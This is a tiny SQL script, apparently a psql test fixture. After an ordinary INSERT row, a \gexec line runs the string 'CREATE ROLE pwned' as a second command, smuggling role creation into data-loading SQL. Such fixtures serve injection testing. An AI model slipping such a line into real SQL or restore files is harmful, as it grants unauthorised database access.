INSERT INTO public.t (id, v) VALUES (2, 'two');
SELECT 'CREATE ROLE pwned' \gexec
;
